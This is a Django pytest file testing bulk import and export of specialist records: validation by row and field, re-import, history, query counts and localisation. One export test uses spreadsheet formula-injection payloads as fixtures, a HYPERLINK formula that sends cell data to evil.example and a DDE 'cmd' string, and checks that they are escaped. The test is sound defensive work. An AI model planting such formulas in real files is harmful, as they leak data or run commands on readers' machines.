"""Bulk import and export of specialists: all or nothing, naming the bad row and field."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from clair_portal.tabular.writing import xlsx_bytes
from cooperation.models import Specialist, SpecialistLanguage
from cooperation.resources import SpecialistImport
from cooperation.tests import factories

pytestmark = pytest.mark.django_db

HEADERS = [
    "email", "full_name", "status", "home_government", "position", "years_of_experience",
    "fields", "languages", "consent_to_contact", "is_active",
]  # fmt: skip


def dataset(*rows, headers=HEADERS) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([headers, *rows])
    return buffer.getvalue().encode()


def import_specialists(data: bytes, *, dry_run=False, user=None):
    return SpecialistImport(user=user).run(
        io.BytesIO(data), name="specialists.csv", dry_run=dry_run
    )


def errors_by_row(result) -> dict:
    found: dict = {}
    for error in result.errors:
        found.setdefault(error.row, {})[error.column] = str(error.message)
    return found


def row(i, **overrides):
    values = {
        "email": f"imported{i}@example.org",
        "full_name": f"Imported {i}",
        "status": "retired",
        "home_government": "422011",
        "position": "Waterworks engineer",
        "years_of_experience": 25,
        "fields": "water-supply;sewerage",
        "languages": "en:fluent; fr:basic",
        "consent_to_contact": 1,
        "is_active": 1,
    }
    values.update(overrides)
    return [values[h] for h in HEADERS]


def test_an_import_creates_specialists_with_fields_and_languages(reference_data):
    result = import_specialists(dataset(row(1), row(2)))
    assert result.ok, (result.refused, result.errors)
    person = Specialist.objects.get(email="imported1@example.org")
    assert person.home_government_id == "422011"
    assert sorted(f.code for f in person.fields.all()) == ["sewerage", "water-supply"]
    assert sorted((x.language, x.level) for x in person.languages.all()) == [("en", 3), ("fr", 1)]


def test_importing_the_same_file_again_changes_nothing(reference_data):
    import_specialists(dataset(row(1), row(2)))

    def histories():
        fields = Specialist.history.model.fields.model
        return (Specialist.history.count(), fields.objects.count(),
                SpecialistLanguage.history.count())  # fmt: skip

    before = histories()
    again = import_specialists(dataset(row(1), row(2)))
    assert again.unchanged == 2 and again.changed == 0
    assert histories() == before
    changed = import_specialists(dataset(row(1), row(2, languages="en:fluent")))
    assert changed.changed == 1 and changed.unchanged == 1
    assert [c.fields for c in changed.changes] == [("languages",)]
    person = Specialist.objects.get(email="imported2@example.org")
    assert [(x.language, x.level) for x in person.languages.all()] == [("en", 3)]


def test_one_bad_row_imports_nothing_and_names_the_row_and_field(reference_data):
    result = import_specialists(
        dataset(row(1), row(2, home_government="999999"), row(3, languages="xx:fluent"))
    )
    assert result.has_validation_errors()
    assert Specialist.objects.count() == 0
    bad = errors_by_row(result)  # rows as a spreadsheet numbers them: the header is row 1
    assert set(bad) == {3, 4}
    assert "home_government" in bad[3] and "999999" in bad[3]["home_government"]
    assert "languages" in bad[4] and "xx" in bad[4]["languages"]


def test_unknown_field_codes_are_named(reference_data):
    result = import_specialists(dataset(row(1, fields="water-supply;basket-weaving")))
    assert result.has_validation_errors()
    assert "basket-weaving" in errors_by_row(result)[2]["fields"]
    assert not Specialist.objects.exists()


def test_an_import_updates_by_email_and_deactivates_instead_of_deleting(reference_data):
    existing = factories.specialist("imported1@example.org", languages=(("de", 4),))
    result = import_specialists(dataset(row(1, is_active=0, languages="en:native")))
    assert result.ok
    existing.refresh_from_db()
    assert existing.is_active is False and existing.full_name == "Imported 1"
    assert [(x.language, x.level) for x in existing.languages.all()] == [("en", 4)]
    assert Specialist.objects.count() == 1


def test_export_round_trips_through_import(reference_data):
    factories.specialist("round@example.org", fields=("tourism", "agriculture"),
                         languages=(("es", 2),))  # fmt: skip
    header, *rows = SpecialistImport.export_rows(Specialist.objects.all())
    # Headers and values as people read them, which import back.
    assert header[:3] == ["e-mail address", "full name", "status"]
    exported_row = dict(zip(header, rows[0], strict=True))
    assert exported_row["languages"] == "Spanish: working"
    assert sorted(exported_row["fields"].split("; ")) == ["Agriculture", "Tourism"]
    Specialist.objects.all().update(full_name="Changed")
    result = SpecialistImport().run(io.BytesIO(xlsx_bytes([header, *rows])), name="s.xlsx")
    assert result.ok, result.errors
    person = Specialist.objects.get()
    assert person.full_name == "Round"
    assert sorted(f.code for f in person.fields.all()) == ["agriculture", "tourism"]


def test_the_admin_import_previews_and_refuses_a_bad_file(client, cast):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    data = dataset(row(1), row(2, years_of_experience="many"))
    client.force_login(cast.hq)
    response = client.post(
        reverse("admin:cooperation_specialist_import"),
        {
            "import_file": SimpleUploadedFile("specialists.csv", data),
            "format": "0",
            "resource": "0",
        },  # fmt: skip
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "years_of_experience" in content or "Years of experience" in content
    assert "confirm" not in response.context or not response.context.get("confirm_form")
    assert not Specialist.objects.exists()


def test_the_same_address_twice_in_one_file_is_refused(reference_data):
    result = import_specialists(dataset(row(1), row(2), row(1, full_name="Again")))
    assert not Specialist.objects.exists()
    assert errors_by_row(result) == {4: {"email": "The same record is already in row 2."}}


def test_an_import_records_history_of_specialists_fields_and_languages(reference_data, cast):
    import_specialists(dataset(row(1)), user=cast.hq)
    person = Specialist.objects.get()
    (created,) = person.history.all()
    assert created.history_type == "+" and created.history_user == cast.hq
    assert sorted(f.field.code for f in created.fields.all()) == ["sewerage", "water-supply"]
    import_specialists(dataset(row(1, fields="tourism", languages="fr:native; de:basic")))
    latest = person.history.first()
    assert latest.history_type == "~"
    assert [f.field.code for f in latest.fields.all()] == ["tourism"]
    languages = SpecialistLanguage.history.filter(specialist=person)
    assert sorted(languages.values_list("language", "history_type", "level")) == [
        ("de", "+", 1), ("en", "+", 3), ("en", "-", 3), ("fr", "+", 1), ("fr", "~", 4),
    ]  # fmt: skip
    assert sorted(person.languages.values_list("language", "level")) == [("de", 1), ("fr", 4)]


def count_import_queries(n, start):
    first = dataset(*(row(i) for i in range(start, start + n)))
    assert import_specialists(first).ok
    # The second file changes every row: other fields, other languages, one language gone.
    changed = dataset(
        *(
            row(i, years_of_experience=30, fields="tourism;health", languages="fr:native; de:basic")
            for i in range(start, start + n)
        ),
        *(row(i) for i in range(start + n, start + 2 * n)),  # and as many new ones
    )
    with CaptureQueriesContext(connection) as queries:
        result = import_specialists(changed)
    assert result.ok
    assert (result.changed, result.added) == (n, n)
    return len(queries)


def test_import_queries_do_not_grow_with_rows(reference_data):
    # Savepoints; the existing specialists with their fields and languages, the local
    # governments named and the field codes; then per kind of write one statement per
    # 2,000 rows: specialists and their history, fields and the fields' history, and
    # languages deleted, changed and added with their history.
    small = count_import_queries(10, 0)
    large = count_import_queries(300, 1000)
    assert large == small, (small, large)
    person = Specialist.objects.get(email="imported1005@example.org")
    assert person.years_of_experience == 30
    assert sorted(f.code for f in person.fields.all()) == ["health", "tourism"]
    assert sorted(person.languages.values_list("language", "level")) == [("de", 1), ("fr", 4)]
    assert Specialist.objects.count() == 2 * 10 + 2 * 300


def test_the_admin_import_previews_then_confirms_and_records_who(client, cast):
    from django.urls import reverse

    client.force_login(cast.hq)
    upload = io.BytesIO(dataset(row(1), row(2)))
    upload.name = "specialists.csv"
    response = client.post(
        reverse("admin:cooperation_specialist_import"),
        {"import_file": upload, "format": "0", "resource": "0"},
    )
    assert response.status_code == 200
    assert "confirm_form" in response.context, response.context.get("errors")
    assert not Specialist.objects.exists()  # the preview wrote nothing
    confirm = response.context["confirm_form"].initial
    response = client.post(reverse("admin:cooperation_specialist_process_import"), confirm)
    assert response.status_code == 302
    assert Specialist.objects.count() == 2
    assert Specialist.history.filter(history_user=cast.hq).count() == 2


def test_the_admin_export_keeps_a_specialists_formula_out_of_spreadsheets(client, cast):
    """A specialist's own name and position went out as a live HYPERLINK formula."""
    from django.urls import reverse
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
    factories.specialist("evil@example.org", full_name=evil, position="+cmd|' /C calc'!A0")
    client.force_login(cast.hq)
    url = reverse("admin:cooperation_specialist_export")
    response = client.post(url, {"format": "1", "resource": "0"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    name, position = sheet["B2"], sheet["E2"]
    assert name.data_type == "s" and name.value == "'" + evil
    assert position.data_type == "s" and position.value.startswith("'+cmd")
    response = client.post(url, {"format": "0", "resource": "0"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells[1] == "'" + evil and cells[4].startswith("'+cmd")


def test_the_admin_export_is_in_japanese_for_a_japanese_reader(client, cast):
    from django.urls import reverse

    factories.specialist("ja@example.org", languages=(("fr", 3),))
    client.force_login(cast.hq)
    with translation.override("ja"):
        response = client.post(
            reverse("admin:cooperation_specialist_export"), {"format": "0", "resource": "0"},
            HTTP_ACCEPT_LANGUAGE="ja",
        )  # fmt: skip
    header, first = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    # "status" is a JET participant's too, and jet's catalogue is read first.
    assert header[:3] == ["メールアドレス", "氏名", "状況"]
    assert dict(zip(header, first, strict=True))["使用言語"] == "フランス語: 流暢"
    data = "\ufeff" + ",".join(header) + "\n" + ",".join(f'"{c}"' for c in first) + "\n"
    assert import_specialists(data.encode()).unchanged == 1


def test_languages_and_fields_read_as_names_in_either_language_or_codes(reference_data):
    result = import_specialists(
        dataset(row(1, languages="フランス語：流暢; English: working", fields="water-supply"))
    )
    assert result.ok, result.errors
    person = Specialist.objects.get()
    assert sorted(person.languages.values_list("language", "level")) == [("en", 2), ("fr", 3)]
